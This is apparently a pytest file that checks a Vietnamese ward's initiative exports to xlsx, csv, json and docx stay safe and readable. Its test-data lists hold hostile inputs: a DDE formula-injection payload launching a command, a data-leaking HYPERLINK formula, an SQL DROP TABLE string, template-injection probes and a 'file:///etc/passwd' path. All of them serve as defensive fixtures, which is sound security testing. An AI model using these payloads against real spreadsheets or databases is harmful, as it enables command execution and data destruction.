"""Files opened again with second libraries: text stays text, whatever a resident typed."""

import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl.utils.escape import unescape

from domain.initiatives.initiatives import Topic
from services.documents.cell_text import clean_text, cut
from services.documents.csv import safe
from services.documents.table import TooManyRows
from services.documents.xlsx import MOST_ROWS, lines, wrapped
from services.reports.exports.form import MOST_FORMS, TooManyForms
from services.reports.exports.tables import COLUMNS
from tests.support import exported
from tests.support.exported import (
    TAKEN_AT,
    WORDS,
    asked,
    csv_rows,
    docx_text,
    json_rows,
    record,
    setting,
    written,
    xlsx_cells,
    xlsx_rows,
)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "=1+1",
    "-2+3",
    "+1+1",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "{=1+1}",
    "{=SUM(A1:A9)}",
]
LITERAL = [
    "http://vi-du.example/?a=1&b=2",
    "mailto:a@vi-du.example",
    "internal:Sheet2!A1",
    "file:///etc/passwd",
    "<b>x</b> &lt; &amp; ]]>",
    "<r><t>x</t></r>",
    "<r></is></c><c r='A9'><f>1+1</f></c><c><is></r>",
    "<r>chỉ mở",
    "_x0041_ _x000D_",
    "{{7*7}} {%p if x %} ${7*7} %s%n {0.__class__}",
    "'; DROP TABLE initiative; --",
    "*_[]()~`>#+-=|{}.!",
    "dòng một\ndòng hai\n\ndòng bốn",
    'có "ngoặc kép", dấu phẩy; chấm phẩy',
    "0123",
    "1e5",
    "NaN",
    "true",
    "👨‍👩‍👧‍👦 🇻🇳 🏽",
    "Đặng Thị Hằng",
    "01/02/2026",
]
BROKEN = [
    ("a\x00b", "ab"),
    ("\x1b[31mđỏ\x1b[0m", "[31mđỏ[0m"),
    ("\x0b\x0cx\x7f", "x"),
    ("mặt\ud800 trời", "mặt trời"),
    ("\ufffe\uffff\ufdd0x", "x"),
    ("\u202egnp.exe", "gnp.exe"),
]
TEXT_KEYS = ("story", "problem", "name", "content_by")


def everywhere(text: str) -> Any:
    """An initiative that holds this text in every place a person can fill."""
    return record(
        dict.fromkeys(Topic, text),
        story=text,
        name=text,
        phone=text,
        phone_note=text,
        khoi=text,
        content_set_by=text,
        group_set_by=text,
        content=text,
    )


@pytest.mark.parametrize("text", [*FORMULAS, *LITERAL, "+84 912 345 678", "+84912345678"])
def test_whatever_was_typed_is_plain_text_in_a_spreadsheet(tmp_path: Path, text: str):
    path = written(tmp_path / "a.xlsx", everywhere(text))
    (row,) = xlsx_cells(path)
    for key, cell in row.items():
        assert cell.data_type in {"s", "n", "d"}, key
        assert cell.hyperlink is None
    for key in TEXT_KEYS:
        assert row[key].data_type == "s"
        assert unescape(row[key].value) == clean_text(text)
    with zipfile.ZipFile(path) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet


@pytest.mark.parametrize(("text", "kept"), BROKEN)
@pytest.mark.parametrize("form", ["xlsx", "csv", "json", "docx"])
def test_characters_no_file_can_hold_are_left_out_and_nothing_else(
    tmp_path: Path, form: str, text: str, kept: str
):
    path = written(tmp_path / f"a.{form}", everywhere(text), record(story="hàng sau"))
    if form == "docx":
        assert kept in docx_text(path)
        assert "hàng sau" in docx_text(path)
        return
    first, second = getattr(exported, f"{form}_rows")(path)
    assert first["story"] == kept
    assert second["story"] == "hàng sau"


@pytest.mark.parametrize("text", [*LITERAL, *FORMULAS])
def test_text_goes_through_csv_json_and_a_form_unharmed(tmp_path: Path, text: str):
    (plain,) = json_rows(written(tmp_path / "a.json", everywhere(text)))
    (comma,) = csv_rows(written(tmp_path / "a.csv", everywhere(text)))
    form = docx_text(written(tmp_path / "a.docx", everywhere(text)))
    assert plain["story"] == plain["name"] == text
    assert comma["story"] in {text, f"'{text}"}
    assert text in form


@pytest.mark.parametrize("text", FORMULAS[:-2])
def test_what_a_spreadsheet_would_calculate_is_led_by_an_apostrophe_in_csv(
    tmp_path: Path, text: str
):
    (row,) = csv_rows(written(tmp_path / "a.csv", everywhere(text)))
    for key in TEXT_KEYS:
        assert row[key] == f"'{text}"


@pytest.mark.parametrize(
    "text", ["+84912345678", "+84 912 345 678", "0912 345 678", "- gạch đầu dòng"[2:], "a=b"]
)
def test_a_phone_number_and_harmless_words_stay_as_they_are_in_csv(text: str):
    assert safe(text) == text


def test_a_phone_is_text_with_its_leading_nought(tmp_path: Path):
    (row,) = xlsx_cells(written(tmp_path / "a.xlsx", record()))
    assert (row["phone"].value, row["phone"].data_type) == ("0900 000 011", "s")
    assert csv_rows(written(tmp_path / "a.csv", record()))[0]["phone"] == "0900 000 011"


def test_a_day_is_a_real_date_of_the_ward(tmp_path: Path):
    (row,) = xlsx_cells(written(tmp_path / "a.xlsx", record()))
    assert row["sent_on"].value.date() == date(2026, 11, 21)
    assert row["sent_on"].number_format == "dd/mm/yyyy"
    assert csv_rows(written(tmp_path / "a.csv", record()))[0]["sent_on"] == "21/11/2026"
    assert json_rows(written(tmp_path / "a.json", record()))[0]["sent_on"] == "2026-11-21"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("ă" * 40_000, id="40,000 letters"),
        pytest.param("👨‍👩‍👧‍👦" * 5_000, id="5,000 families"),
        pytest.param("a" * 32_766 + "😀", id="cut in the middle of a sign"),
        pytest.param("a" * 32_767, id="exactly as many as fit"),
    ],
)
def test_a_telling_too_long_for_a_cell_is_cut_where_one_sees_it(tmp_path: Path, text: str):
    (row,) = xlsx_rows(written(tmp_path / "a.xlsx", record(story=text)))
    shown = row["story"]
    assert len(shown.encode("utf-16-le")) // 2 <= 32_767
    if len(text.encode("utf-16-le")) // 2 > 32_767:
        assert shown.endswith(WORDS["cut"])
        assert text.startswith(shown.removesuffix(WORDS["cut"]))
        assert "\ufffd" not in shown
    else:
        assert shown == text
    assert json_rows(written(tmp_path / "a.json", record(story=text)))[0]["story"] == text


def test_a_cut_never_parts_a_letter_from_its_marks():
    assert cut("e\u0301" * 9, "…", 6) == "e\u0301e\u0301…"


@pytest.mark.parametrize("form", ["xlsx", "csv", "json"])
def test_no_row_and_one_row_are_tables_too(tmp_path: Path, form: str):
    read = getattr(exported, f"{form}_rows")
    assert read(written(tmp_path / f"none.{form}")) == []
    assert len(read(written(tmp_path / f"one.{form}", record()))) == 1


def test_codes_read_as_words_for_people_and_stay_codes_for_programs(tmp_path: Path):
    shown = csv_rows(written(tmp_path / "a.csv", record(content_set_by="Bà Minh Họa")))[0]
    assert shown["status"] == "Đã gửi"
    assert shown["maturity"] == "Mới nghĩ ra"
    assert shown["content"] == "ND5. Xã hội số, bình dân học vụ số"
    assert shown["content_by"] == "Bà Minh Họa"
    assert shown["group"] == "D. Cá nhân"
    assert shown["group_by"] == "Máy đề xuất"
    assert shown["khoi"] == "Khối Bình Minh (minh họa)"
    plain = json_rows(written(tmp_path / "a.json", record()))[0]
    assert (plain["status"], plain["content"], plain["khoi"]) == ("submitted", "ND5_XHS", "K01")
    assert plain["content_by"] is None
    assert plain["is_confidential"] is False


@pytest.mark.parametrize("form", ["xlsx", "csv", "json", "docx"])
def test_one_kept_close_tells_no_name_and_no_phone_unless_that_is_asked_for(
    tmp_path: Path, form: str
):
    secret = record(is_confidential=True, name="Vi Thị Mẫu", phone="+84900000099")
    hidden = written(tmp_path / f"a.{form}", secret)
    told = written(tmp_path / f"b.{form}", secret, reveal_confidential=True)
    read = {"xlsx": xlsx_rows, "csv": csv_rows, "json": json_rows, "docx": docx_text}[form]
    assert "Vi Thị Mẫu" not in str(read(hidden))
    assert "0900 000 099" not in str(read(hidden))
    assert "Lắp đèn ngõ 12." in str(read(hidden))
    assert "Vi Thị Mẫu" in str(read(told))
    assert "0900 000 099" in str(read(told))
    if form == "csv":
        assert csv_rows(hidden)[0]["name"] == csv_rows(hidden)[0]["phone"] == "giữ kín"
    if form == "json":
        assert json_rows(hidden)[0]["name"] is None
        assert json_rows(hidden)[0]["is_confidential"] is True


@pytest.mark.parametrize("form", ["xlsx", "csv", "json", "docx"])
def test_one_taken_back_leaves_its_code_and_days(tmp_path: Path, form: str):
    back = record(
        {Topic.BENEFIT: "ích nước lợi nhà"},
        status="withdrawn",
        withdrawn_at=datetime(2026, 11, 22, 3, tzinfo=UTC),
    )
    path = written(tmp_path / f"a.{form}", back)
    read = {"xlsx": xlsx_rows, "csv": csv_rows, "json": json_rows, "docx": docx_text}[form]
    told = str(read(path))
    for word in ("Lắp đèn", "ích nước", "Nguyễn Văn Mẫu", "0900 000 011", "Bình Minh"):
        assert word not in told
    assert "SK-2026-0001-T" in told
    if form == "xlsx":
        assert xlsx_rows(path)[0]["withdrawn_on"].date() == date(2026, 11, 22)


def test_a_sheet_is_ready_to_be_read_and_printed(tmp_path: Path):
    from openpyxl import load_workbook

    path = written(tmp_path / "a.xlsx", record(), record(story="một dòng rất dài " * 20))
    book = load_workbook(path)
    sheet, about = book.worksheets
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:AB3"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.column_dimensions["F"].width > 40
    assert sheet.row_dimensions[3].height == 16 * 6
    assert sheet["F3"].alignment.wrap_text
    assert sheet["A1"].font.name == sheet["F3"].font.name == "Times New Roman"
    notes = [str(cell.value) for (cell,) in about.iter_rows()]
    assert notes[0] == "Danh sách sáng kiến, phường Mẫu (minh họa)"
    assert "16:00 ngày 22/11/2026" in notes[1]
    assert "Bà Trần Thị Minh Họa" in notes[1]
    assert "Có 2 sáng kiến" in notes[1]
    assert WORDS["note.private"] in notes
    assert book.properties.created == TAKEN_AT.replace(tzinfo=None)


def test_a_row_is_as_high_as_its_longest_telling_and_never_fills_the_screen():
    empty = [None] * len(COLUMNS)
    wrapping = wrapped(COLUMNS)
    assert lines(empty, wrapping) == 1
    assert lines([*empty[:5], "một\nhai\nba", *empty[6:]], wrapping) == 3
    assert lines([*empty[:5], "x" * 5_000, *empty[6:]], wrapping) == 16


def test_more_than_a_kind_of_file_holds_is_refused_before_anything_is_written(tmp_path: Path):
    with pytest.raises(TooManyRows):
        asked(tmp_path / "a.xlsx").opened(setting(tmp_path / "a.xlsx"), MOST_ROWS + 1)
    with pytest.raises(TooManyForms) as refused:
        asked(tmp_path / "a.docx").opened(setting(tmp_path / "a.docx"), MOST_FORMS + 1)
    assert refused.value.facts == {"limit": 200}
    assert list(tmp_path.iterdir()) == []


def test_words_a_later_release_does_not_know_stand_for_themselves(tmp_path: Path):
    (row,) = csv_rows(written(tmp_path / "a.csv", record(content="ND9", khoi="K99")))
    assert (row["content"], row["khoi"]) == ("ND9", "K99")


def test_days_are_dates_before_they_are_written():
    assert safe(date(2026, 2, 1)) == "01/02/2026"


def test_capitals_and_the_ends_of_words_are_given_room():
    wrapping = [(0, 28)]
    assert lines(["Hội Phụ nữ phường Mẫu (minh họa)"], wrapping) == 2
    assert lines(["LẮP ĐÈN NĂNG LƯỢNG MẶT TRỜI Ở NGÕ TỐI"], wrapping) == 2
    assert lines(["Lắp đèn ở ngõ tối"], wrapping) == 1
